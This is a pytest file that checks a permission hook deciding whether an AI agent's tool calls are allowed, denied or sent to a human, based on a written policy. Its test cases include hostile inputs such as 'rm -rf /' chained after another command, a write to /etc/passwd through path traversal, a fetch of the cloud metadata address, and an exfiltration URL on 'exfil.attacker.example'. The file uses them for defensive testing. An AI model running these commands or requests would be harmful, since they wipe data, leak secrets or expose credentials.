"""The example hook decides the listed tool calls as the policy says."""

from __future__ import annotations

from typing import Any, Dict, List, Tuple

import pytest

import gatehouse
from can_use_tool import make_can_use_tool

POLICY = """
policy agent {
  sandbox workspace-write
  approvals on-request
  network {
    allow domain **.github.com
    allow domain pypi.org
  }
  commands {
    allow git status
    prompt git push because "publishing work needs a human"
    forbid rm -rf / because "never wipe the filesystem"
  }
  mcp {
    server linear approve
    tool github/delete_repo prompt
    server scratch off
  }
}
"""

CASES: List[Tuple[str, Dict[str, Any], str]] = [
    ("Bash", {"command": "git status"}, "allow"),
    ("Bash", {"command": "cd src && git push origin main"}, "ask"),
    ("Bash", {"command": "rm -rf /"}, "deny"),
    ("Bash", {"command": "echo ok; rm -rf /"}, "deny"),
    ("Bash", {"command": None}, "deny"),
    ("Write", {"file_path": "/work/src/main.py", "content": "x"}, "allow"),
    ("Edit", {"file_path": "src/main.py"}, "allow"),
    ("Write", {"file_path": "/work/.git/hooks/pre-commit"}, "ask"),
    ("Write", {"file_path": "/work/../etc/passwd"}, "ask"),
    ("WebFetch", {"url": "https://api.github.com/repos/x/y"}, "allow"),
    ("WebFetch", {"url": "https://pypi.org:8443/simple"}, "allow"),
    ("WebFetch", {"url": "https://pypi.org.evil.example/simple"}, "deny"),
    ("WebFetch", {"url": "https://exfil.attacker.example/?d=secret"}, "deny"),
    ("WebFetch", {"url": "http://169.254.169.254/latest/meta-data"}, "deny"),
    ("WebFetch", {"url": "not a url"}, "deny"),
    ("mcp__linear__create_issue", {}, "allow"),
    ("mcp__github__delete_repo", {}, "ask"),
    ("mcp__github__get_issue", {}, "allow"),
    ("mcp__github__merge_pull_request", {}, "ask"),
    ("mcp__scratch__read", {}, "deny"),
    ("Read", {"file_path": "/etc/hosts"}, "allow"),
    ("TodoWrite", {}, "ask"),
]


@pytest.mark.parametrize("tool,tool_input,expected", CASES)
def test_the_hook_decides_as_the_policy_says(tool: str, tool_input: Dict[str, Any], expected: str) -> None:
    policy = gatehouse.PolicySet.from_source("agent.policy", POLICY)["agent"]
    hook = make_can_use_tool(
        policy,
        "/work",
        mcp_hints={
            "github/get_issue": {"read_only": True},
            "github/merge_pull_request": {"destructive": True},
        },
    )
    assert hook(tool, tool_input) == expected
